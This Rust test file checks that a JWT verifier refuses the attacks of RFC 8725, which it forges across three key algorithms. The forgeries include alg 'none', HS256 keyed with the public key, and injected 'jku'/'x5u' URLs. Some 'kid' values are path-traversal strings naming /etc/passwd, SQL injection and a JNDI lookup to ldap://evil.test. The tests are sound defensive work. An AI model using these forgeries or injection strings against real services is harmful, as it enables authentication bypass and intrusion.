//! The attacks of RFC 8725 and of `security-cases` (D-JW-01 to D-JW-07), one test each, against keys of
//! all three algorithms.

mod support;
#[path = "support/tokens.rs"]
mod team;

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use otp_auth::session::{AppVerifier, OrgVerifier};
use otp_auth::token::{Algorithm, TokenError};
use ring::hmac;
use serde_json::{Value, json};
use support::START;
use team::{TEAM, Team, refusal, verify, with_claim, with_header};

/// The three parts of a good token.
fn parts(team: &Team) -> [String; 3] {
    let token = team.app_token().expose().to_owned();
    let parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    parts.try_into().expect("three parts")
}

fn encode(text: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(text)
}

#[tokio::test]
async fn the_forger_of_these_tests_can_forge() {
    for team in Team::all().await {
        let token = team.sign(&team.header().to_string(), &team.claims().to_string());
        assert_eq!(verify(&team, &token), Ok(()), "else the refusals below prove nothing");
    }
}

#[tokio::test]
async fn alg_none_in_every_spelling() {
    for team in Team::all().await {
        for alg in ["none", "None", "NONE", "nOnE", "none ", "", "XS256"] {
            let token = with_header(&team, "alg", json!(alg));
            assert_eq!(refusal(&team, &token), TokenError::WrongAlgorithm, "{alg:?}");
            // And the classic: no signature at all.
            let header = json!({ "alg": alg, "kid": team.kid(), "typ": "JWT" }).to_string();
            let unsigned = format!("{}.{}.", encode(header), encode(team.claims().to_string()));
            assert_eq!(refusal(&team, &unsigned), TokenError::WrongAlgorithm, "{alg:?}");
        }
    }
}

#[tokio::test]
async fn alg_missing_or_no_text() {
    for team in Team::all().await {
        for alg in [json!(null), json!(256), json!(["ES256"]), json!({})] {
            let token = with_header(&team, "alg", alg.clone());
            assert_eq!(refusal(&team, &token), TokenError::Malformed, "{alg}");
        }
        let header = json!({ "kid": team.kid(), "typ": "JWT" }).to_string();
        let token = team.sign(&header, &team.claims().to_string());
        assert_eq!(refusal(&team, &token), TokenError::Malformed);
    }
}

#[tokio::test]
async fn alg_in_another_case_or_size() {
    for team in Team::all().await {
        for alg in ["es256", "ES256 ", "ES384", "ES512", "ES256K", "rs256", "RS384", "RS512"] {
            let token = with_header(&team, "alg", json!(alg));
            assert_eq!(refusal(&team, &token), TokenError::WrongAlgorithm, "{alg:?}");
        }
        for alg in ["PS256", "eddsa", "Ed25519", "Ed448", "HS384", "HS512", "A128KW", "dir"] {
            let token = with_header(&team, "alg", json!(alg));
            assert_eq!(refusal(&team, &token), TokenError::WrongAlgorithm, "{alg:?}");
        }
    }
}

#[tokio::test]
async fn hs256_with_the_public_key_as_secret() {
    for team in Team::all().await {
        let jwks = team.keys.jwks();
        let document: Value = serde_json::from_str(&jwks).unwrap();
        let jwk = &document["keys"][0];
        let members = ["x", "y", "n"].iter().filter_map(|name| jwk[*name].as_str());
        let raw = members.map(|text| URL_SAFE_NO_PAD.decode(text).unwrap());
        let raw: Vec<Vec<u8>> = raw.collect();
        let point = [&[4][..], &raw.concat()].concat();
        let secrets = [raw.concat(), point, jwks.into_bytes(), jwk.to_string().into_bytes()];
        for secret in secrets {
            let header = json!({ "alg": "HS256", "kid": team.kid(), "typ": "JWT" }).to_string();
            let signed = format!("{}.{}", encode(header), encode(team.claims().to_string()));
            let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), signed.as_bytes());
            let token = format!("{signed}.{}", encode(mac));
            assert_eq!(refusal(&team, &token), TokenError::WrongAlgorithm);
            // The same under the name of the right algorithm.
            let header = team.header().to_string();
            let signed = format!("{}.{}", encode(header), encode(team.claims().to_string()));
            let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), signed.as_bytes());
            let token = format!("{signed}.{}", encode(mac));
            assert_eq!(refusal(&team, &token), TokenError::BadSignature);
        }
    }
}

#[tokio::test]
async fn a_key_under_the_name_or_algorithm_of_another() {
    let [es256, eddsa, rs256] = Team::all().await;
    let mut keys = es256.keys.keys();
    for team in [&eddsa, &rs256] {
        let (other, random) = (team.keys.keys(), otp_auth::random::SystemRandom::new());
        let pkcs8 = other.signing().to_pkcs8();
        let key = otp_auth::keys::SigningKey::from_pkcs8(&pkcs8, &random).unwrap();
        keys.publish(key, START).unwrap();
    }
    es256.keys.replace(keys);
    let teams = [&es256, &eddsa, &rs256];
    let claims = es256.claims().to_string();
    for signer in teams {
        for named in teams {
            for alg in teams {
                let header = json!({ "alg": alg.algorithm().as_str(), "kid": named.kid() });
                let found = verify(&es256, &signer.sign(&header.to_string(), &claims));
                let expected = if alg.kid() != named.kid() {
                    Err(TokenError::WrongAlgorithm)
                } else if signer.kid() != named.kid() {
                    Err(TokenError::BadSignature)
                } else {
                    Ok(())
                };
                assert_eq!(found, expected, "{header}");
            }
        }
    }
}

#[tokio::test]
async fn kid_missing_or_no_text() {
    for team in Team::all().await {
        for kid in [json!(null), json!(1), json!([team.kid()]), json!({ "kid": team.kid() })] {
            assert_eq!(refusal(&team, &with_header(&team, "kid", kid)), TokenError::Malformed);
        }
        let header = json!({ "alg": team.algorithm().as_str(), "typ": "JWT" }).to_string();
        let token = team.sign(&header, &team.claims().to_string());
        assert_eq!(refusal(&team, &token), TokenError::Malformed);
    }
}

#[tokio::test]
async fn kid_unknown() {
    for team in Team::all().await {
        for kid in
            ["", "x", &team.kid()[..63], &team.kid().to_uppercase(), &format!("{} ", team.kid())]
        {
            let token = with_header(&team, "kid", json!(kid));
            assert_eq!(refusal(&team, &token), TokenError::UnknownKey, "{kid}");
        }
    }
    let (team, other) = (Team::new().await, Team::new().await);
    assert_eq!(refusal(&team, other.app_token().expose()), TokenError::UnknownKey);
}

#[tokio::test]
async fn kid_as_a_path() {
    for team in Team::all().await {
        for kid in ["../../../../dev/null", "/etc/passwd", "file:///dev/null", "C:\\x", "k\0"] {
            let token = with_header(&team, "kid", json!(kid));
            assert_eq!(refusal(&team, &token), TokenError::UnknownKey, "{kid}");
        }
    }
}

#[tokio::test]
async fn kid_with_sql() {
    for team in Team::all().await {
        for kid in ["' or 1=1 --", "x' UNION SELECT 'key'; --", "${jndi:ldap://evil.test}"] {
            let token = with_header(&team, "kid", json!(kid));
            assert_eq!(refusal(&team, &token), TokenError::UnknownKey, "{kid}");
        }
    }
}

#[tokio::test]
async fn kid_of_ten_kilobytes() {
    for team in Team::all().await {
        let token = with_header(&team, "kid", json!("k".repeat(10_240)));
        assert_eq!(refusal(&team, &token), TokenError::TooLarge);
        let token = with_header(&team, "kid", json!("k".repeat(5_000)));
        assert_eq!(refusal(&team, &token), TokenError::UnknownKey);
    }
}

#[tokio::test]
async fn the_right_kid_over_another_key() {
    for team in Team::all().await {
        // The RSA key of the tests is one.
        for other in Team::all().await.iter().filter(|other| other.kid() != team.kid()) {
            let forged = other.sign(&team.header().to_string(), &team.claims().to_string());
            assert_eq!(refusal(&team, &forged), TokenError::BadSignature);
        }
    }
}

#[tokio::test]
async fn keys_and_addresses_of_keys_in_the_header() {
    for (team, evil) in Team::all().await.into_iter().zip(Team::all().await) {
        if team.kid() == evil.kid() {
            continue; // the RSA key of the tests is one
        }
        let jwks: Value = serde_json::from_str(&evil.keys.jwks()).unwrap();
        let mut header = team.header();
        header["jwk"] = jwks["keys"][0].clone();
        header["jku"] = json!("https://evil.test/jwks");
        header["x5u"] = json!("https://evil.test/cert");
        header["x5c"] = json!(["MIIB"]);
        header["x5t"] = json!("AAAA");
        let claims = team.claims().to_string();
        let token = evil.sign(&header.to_string(), &claims);
        assert_eq!(refusal(&team, &token), TokenError::BadSignature);
        header["kid"] = json!(evil.kid());
        let token = evil.sign(&header.to_string(), &claims);
        assert_eq!(refusal(&team, &token), TokenError::UnknownKey);
        // Ignored also means: they do not spoil a good token.
        header["kid"] = json!(team.kid());
        assert_eq!(verify(&team, &team.sign(&header.to_string(), &claims)), Ok(()));
    }
}

#[tokio::test]
async fn crit_in_any_form() {
    for team in Team::all().await {
        for crit in [json!(["exp"]), json!(["b64"]), json!([]), json!(null), json!("exp")] {
            let token = with_header(&team, "crit", crit);
            assert_eq!(refusal(&team, &token), TokenError::UnsupportedHeader);
        }
    }
}

#[tokio::test]
async fn b64_false_and_true() {
    for team in Team::all().await {
        for b64 in [json!(false), json!(true), json!("false")] {
            let token = with_header(&team, "b64", b64);
            assert_eq!(refusal(&team, &token), TokenError::UnsupportedHeader);
        }
    }
}

#[tokio::test]
async fn typ_of_another_kind() {
    for team in Team::all().await {
        for typ in [json!("at+jwt"), json!("meta+jwt"), json!("JWE"), json!(1), json!(null)] {
            let token = with_header(&team, "typ", typ.clone());
            assert_eq!(refusal(&team, &token), TokenError::UnsupportedHeader, "{typ}");
        }
        assert_eq!(verify(&team, &with_header(&team, "typ", json!("jwt"))), Ok(()));
    }
}

#[tokio::test]
async fn zip_and_encryption_headers_change_nothing() {
    for team in Team::all().await {
        // RFC 7516's members have no meaning in a signed token; the payload is read as it stands.
        for (name, value) in [("zip", "DEF"), ("enc", "A128GCM"), ("cty", "JWT")] {
            let found = verify(&team, &with_header(&team, name, json!(value)));
            assert_eq!(found, Ok(()), "{name}");
        }
    }
}

#[tokio::test]
async fn oversized() {
    for team in Team::all().await {
        for length in [8_193, 100_000, 1 << 20] {
            assert_eq!(refusal(&team, &"a".repeat(length)), TokenError::TooLarge);
        }
        let token = with_claim(&team, "custom", json!("x".repeat(8_000)));
        assert_eq!(refusal(&team, &token), TokenError::TooLarge);
        let token = with_claim(&team, "custom", json!("x".repeat(4_000)));
        assert_eq!(verify(&team, &token), Ok(()));
    }
}

#[tokio::test]
async fn ten_thousand_dots() {
    let team = Team::new().await;
    assert_eq!(refusal(&team, &".".repeat(10_000)), TokenError::TooLarge);
    for dots in [1, 2, 3, 4, 5, 8_000] {
        assert_eq!(refusal(&team, &".".repeat(dots)), TokenError::Malformed, "{dots}");
    }
}

#[tokio::test]
async fn nested_too_deeply() {
    for team in Team::all().await {
        let deep = |open: &str| encode(open.repeat(3_000 / open.len()));
        for header in [deep("["), deep(r#"{"a":"#)] {
            assert_eq!(refusal(&team, &format!("{header}.e30.AAAA")), TokenError::Malformed);
        }
        let nested = |depth: usize| {
            let claims = team.claims().to_string();
            let (open, close) = ("[".repeat(depth), "]".repeat(depth));
            let claims = format!(r#"{{"custom":{open}{close},{}"#, &claims[1..]);
            verify(&team, &team.sign(&team.header().to_string(), &claims))
        };
        assert_eq!(nested(15), Ok(()));
        assert_eq!(nested(16), Err(TokenError::Malformed));
        assert_eq!(nested(2_000), Err(TokenError::Malformed));
    }
}

#[tokio::test]
async fn duplicate_claim_names() {
    for team in Team::all().await {
        let claims = team.claims().to_string();
        for doubled in [
            format!(r#"{{"email":"mallory@evil.test",{}"#, &claims[1..]),
            format!(r#"{{"e\u006dail":"mallory@evil.test",{}"#, &claims[1..]),
            format!(r#"{{"custom":{{"a":1,"a":2}},{}"#, &claims[1..]),
        ] {
            let token = team.sign(&team.header().to_string(), &doubled);
            assert_eq!(refusal(&team, &token), TokenError::Malformed, "{doubled}");
        }
    }
}

#[tokio::test]
async fn duplicate_header_names() {
    for team in Team::all().await {
        let (header, claims) = (team.header().to_string(), team.claims().to_string());
        for first in [r#""alg":"none""#, r#""kid":"x""#, r#""typ":"JWT""#] {
            let doubled = format!("{{{first},{}", &header[1..]);
            assert_eq!(refusal(&team, &team.sign(&doubled, &claims)), TokenError::Malformed);
        }
    }
}

#[tokio::test]
async fn signature_in_der() {
    let team = Team::new().await;
    let [header, payload, signature] = parts(&team);
    let raw = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let integer = |half: &[u8]| {
        let pad = if half[0] >= 0x80 { vec![0] } else { vec![] };
        let length = u8::try_from(half.len() + pad.len()).unwrap();
        [vec![0x02, length], pad, half.to_vec()].concat()
    };
    let body = [integer(&raw[..32]), integer(&raw[32..])].concat();
    let der = [vec![0x30, u8::try_from(body.len()).unwrap()], body].concat();
    let token = format!("{header}.{payload}.{}", encode(der));
    assert_eq!(refusal(&team, &token), TokenError::BadSignature);
}

#[tokio::test]
async fn signature_of_zeros() {
    for team in Team::all().await {
        let [header, payload, signature] = parts(&team);
        let length = URL_SAFE_NO_PAD.decode(signature).unwrap().len();
        for bytes in [vec![0; length], vec![0xff; length], [vec![0; length - 1], vec![1]].concat()]
        {
            let token = format!("{header}.{payload}.{}", encode(bytes));
            assert_eq!(refusal(&team, &token), TokenError::BadSignature);
        }
    }
}

#[tokio::test]
async fn signature_with_r_or_s_at_the_order_of_the_curve() {
    let team = Team::new().await;
    let [header, payload, signature] = parts(&team);
    let raw = URL_SAFE_NO_PAD.decode(signature).unwrap();
    // SEC 2 section 2.4.2: n.
    let order = u128::to_be_bytes(0xffff_ffff_0000_0000_ffff_ffff_ffff_ffff);
    let low = u128::to_be_bytes(0xbce6_faad_a717_9e84_f3b9_cac2_fc63_2551);
    let order = [order, low].concat();
    for bytes in [
        [&order[..], &raw[32..]].concat(),
        [&raw[..32], &order[..]].concat(),
        [&order[..], &order[..]].concat(),
    ] {
        let token = format!("{header}.{payload}.{}", encode(bytes));
        assert_eq!(refusal(&team, &token), TokenError::BadSignature);
    }
}

/// The other value of s signs the same (RFC 7518 does not choose). Anybody can write it, and wins nothing: the claims are
/// the signed ones, and what is revoked is named by claims.
#[tokio::test]
async fn signature_with_the_other_s_is_the_same_statement() {
    let team = Team::new().await;
    let [header, payload, signature] = parts(&team);
    let raw = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let other = [&raw[..32], &order_minus(&raw[32..])].concat();
    assert_ne!(raw, other);
    let token = format!("{header}.{payload}.{}", encode(other));
    assert_eq!(verify(&team, &token), Ok(()));
}

/// SEC 2 section 2.4.2: n, less this, big-endian.
fn order_minus(number: &[u8]) -> Vec<u8> {
    let high = u128::to_be_bytes(0xffff_ffff_0000_0000_ffff_ffff_ffff_ffff);
    let low = u128::to_be_bytes(0xbce6_faad_a717_9e84_f3b9_cac2_fc63_2551);
    let mut difference = [high, low].concat();
    let mut borrow = false;
    for (digit, less) in difference.iter_mut().zip(number).rev() {
        let (once, first) = digit.overflowing_sub(*less);
        let (twice, second) = once.overflowing_sub(u8::from(borrow));
        (*digit, borrow) = (twice, first | second);
    }
    difference
}

#[tokio::test]
async fn signature_too_short_too_long_or_absent() {
    for team in Team::all().await {
        let [header, payload, signature] = parts(&team);
        let raw = URL_SAFE_NO_PAD.decode(signature).unwrap();
        let longer = [&raw[..], &[0]].concat();
        let shorter = &raw[..raw.len() - 1];
        for bytes in [&[][..], shorter, &longer, &raw[..raw.len() / 2], &[&[0], &raw[..]].concat()]
        {
            let token = format!("{header}.{payload}.{}", encode(bytes));
            assert_eq!(refusal(&team, &token), TokenError::BadSignature);
        }
    }
}

#[tokio::test]
async fn every_bit_of_the_signed_part_counts() {
    let team = Team::new().await;
    let [header, payload, signature] = parts(&team);
    let raw = URL_SAFE_NO_PAD.decode(&payload).unwrap();
    for index in (0..raw.len()).step_by(7) {
        let mut changed = raw.clone();
        changed[index] ^= 1;
        let token = format!("{header}.{}.{signature}", encode(changed));
        assert_eq!(refusal(&team, &token), TokenError::BadSignature, "byte {index}");
    }
    let other = team.sign(&team.header().to_string(), r#"{"email":"mallory@evil.test"}"#);
    let swapped = other.rsplit_once('.').unwrap().0.to_owned() + "." + &signature;
    assert_eq!(refusal(&team, &swapped), TokenError::BadSignature);
}

#[tokio::test]
async fn padding_and_the_standard_alphabet() {
    for team in Team::all().await {
        let [header, payload, signature] = parts(&team);
        let raw = URL_SAFE_NO_PAD.decode(&signature).unwrap();
        for text in
            [URL_SAFE.encode(&raw), STANDARD.encode(&raw), format!("{signature}="), "é".into()]
        {
            let token = format!("{header}.{payload}.{text}");
            assert_eq!(refusal(&team, &token), TokenError::Malformed, "{text}");
        }
    }
}

#[tokio::test]
async fn stray_bits_behind_the_last_byte() {
    let team = Team::new().await;
    let [header, payload, signature] = parts(&team);
    // 64 bytes leave four unused bits in the last character: another one decodes to the same bytes.
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = alphabet.find(signature.chars().last().unwrap()).unwrap();
    let stray = format!("{}{}", &signature[..85], &alphabet[last + 1..=last + 1]);
    let token = format!("{header}.{payload}.{stray}");
    assert_eq!(refusal(&team, &token), TokenError::Malformed);
}

#[tokio::test]
async fn blanks_and_line_ends() {
    for team in Team::all().await {
        let token = team.app_token().expose().to_owned();
        let [header, payload, signature] = parts(&team);
        for bad in [
            format!(" {token}"),
            format!("{token}\n"),
            format!("{token} "),
            format!("{header}\n.{payload}.{signature}"),
            format!("{header}. {payload}.{signature}"),
            format!("Bearer {token}"),
            format!("\"{token}\""),
        ] {
            let found = refusal(&team, &bad);
            assert!(matches!(found, TokenError::Malformed | TokenError::BadSignature), "{bad}");
        }
    }
}

#[tokio::test]
async fn two_four_and_five_parts() {
    for team in Team::all().await {
        let [header, payload, signature] = parts(&team);
        // Five parts are an encrypted token (RFC 7516 section 3.1).
        let jwe = encode(r#"{"alg":"dir","enc":"A128GCM"}"#);
        for bad in [
            String::new(),
            header.clone(),
            format!("{header}.{payload}"),
            format!("{header}.{payload}.{signature}.{signature}"),
            format!(".{header}.{payload}.{signature}"),
            format!("{header}..{payload}.{signature}.x"),
            format!("{jwe}..AAAA.AAAA.AAAA"),
        ] {
            assert_eq!(refusal(&team, &bad), TokenError::Malformed, "{bad}");
        }
    }
}

#[tokio::test]
async fn a_header_or_payload_that_is_no_object() {
    for team in Team::all().await {
        let [_, payload, signature] = parts(&team);
        for text in ["[]", "{}", "null", "1", "\"x\"", "", "{", "{\"alg\":\"ES256\"}x"] {
            let token = format!("{}.{payload}.{signature}", encode(text));
            assert_eq!(refusal(&team, &token), TokenError::Malformed, "{text}");
        }
        for text in ["[]", "null", "1", "", "{", "\u{feff}{}"] {
            let token = team.sign(&team.header().to_string(), text);
            assert_eq!(refusal(&team, &token), TokenError::Malformed, "{text}");
        }
        let token = team.sign(&team.header().to_string(), "{}");
        assert_eq!(refusal(&team, &token), TokenError::BadClaims);
    }
}

#[tokio::test]
async fn times_as_text_fraction_negative_or_beyond_range() {
    for team in Team::all().await {
        for bad in [
            json!("1790003600"),
            json!(1_790_003_600.5),
            json!(-1),
            json!(1e300),
            json!(true),
            json!([1_790_003_600]),
            json!({}),
        ] {
            for name in ["exp", "iat", "nbf"] {
                let token = with_claim(&team, name, bad.clone());
                assert_eq!(refusal(&team, &token), TokenError::BadClaims, "{name} {bad}");
            }
        }
        // A float by its spelling, and what no 64 bits hold.
        for number in ["1790003600.0", "1.7900036e9", "18446744073709551616", "99e99"] {
            let claims = team.claims().to_string().replace("1790086400", number);
            let token = team.sign(&team.header().to_string(), &claims);
            assert_eq!(refusal(&team, &token), TokenError::BadClaims, "{number}");
        }
        for large in [1 << 63, u64::MAX] {
            let token = with_claim(&team, "exp", json!(large));
            assert_eq!(verify(&team, &token), Ok(()), "large numbers do not overflow");
            let token = with_claim(&team, "nbf", json!(large));
            assert_eq!(refusal(&team, &token), TokenError::NotYetValid);
        }
    }
}

#[tokio::test]
async fn audiences_of_every_wrong_form() {
    for team in Team::all().await {
        let ours = team.audience.as_str();
        for bad in [
            json!("other"),
            json!(""),
            json!([]),
            json!([""]),
            json!(["other"]),
            json!(ours.to_uppercase()),
            json!(format!("{ours} ")),
            json!(format!("{ours},other")),
            json!(&ours[..63]),
            json!("*"),
        ] {
            let token = with_claim(&team, "aud", bad.clone());
            assert_eq!(refusal(&team, &token), TokenError::WrongAudience, "{bad}");
        }
        for bad in [json!([[ours]]), json!({ "aud": ours }), json!([ours, 1]), json!(null)] {
            let token = with_claim(&team, "aud", bad.clone());
            assert_eq!(refusal(&team, &token), TokenError::BadClaims, "{bad}");
        }
        for good in [json!(ours), json!(["other", ours])] {
            assert_eq!(verify(&team, &with_claim(&team, "aud", good)), Ok(()));
        }
    }
}

#[tokio::test]
async fn the_issuer_with_a_trailing_slash_and_other_issuers() {
    for team in Team::all().await {
        for bad in [
            "https://auth.example.jp/",
            "http://auth.example.jp",
            "https://AUTH.example.jp",
            "https://auth.example.jp.evil.test",
            "https://auth.example.jp\0",
            "",
        ] {
            let token = with_claim(&team, "iss", json!(bad));
            assert_eq!(refusal(&team, &token), TokenError::WrongIssuer, "{bad}");
        }
    }
}

#[tokio::test]
async fn tokens_of_other_types_at_an_application() {
    for team in Team::all().await {
        for kind in ["org", "meta", "match", "App", "APP", "app ", ""] {
            let token = with_claim(&team, "type", json!(kind));
            assert_eq!(refusal(&team, &token), TokenError::WrongType, "{kind}");
        }
        let org = team.session.token.expose();
        let audience = team.issuer.org_audience().clone();
        let app = AppVerifier::new(Arc::new(team.keys.clone()), TEAM);
        assert_eq!(app.verify(org, &audience, START).unwrap_err(), TokenError::WrongType);
        let org = OrgVerifier::new(Arc::new(team.keys.clone()), TEAM, audience);
        let refused = org.verify(team.app_token().expose(), START).unwrap_err();
        assert_eq!(refused, TokenError::WrongType);
    }
}

#[tokio::test]
async fn claims_that_are_missing_or_null() {
    for team in Team::all().await {
        for name in ["type", "aud", "iss", "exp", "iat", "nbf", "sub", "email", "identity_nonce"] {
            let mut claims = team.claims();
            claims.as_object_mut().unwrap().remove(name);
            let token = team.sign(&team.header().to_string(), &claims.to_string());
            assert_eq!(refusal(&team, &token), TokenError::BadClaims, "without {name}");
            let token = with_claim(&team, name, Value::Null);
            assert_eq!(refusal(&team, &token), TokenError::BadClaims, "{name} null");
        }
    }
}

#[tokio::test]
async fn the_header_is_written_as_access_writes_it() {
    for team in Team::all().await {
        let [header, _, _] = parts(&team);
        let header = String::from_utf8(URL_SAFE_NO_PAD.decode(header).unwrap()).unwrap();
        let alg = team.algorithm().as_str();
        assert_eq!(header, format!(r#"{{"alg":"{alg}","kid":"{}","typ":"JWT"}}"#, team.kid()));
        assert!(matches!(team.algorithm(), Algorithm::Es256 | Algorithm::EdDsa | Algorithm::Rs256));
    }
}
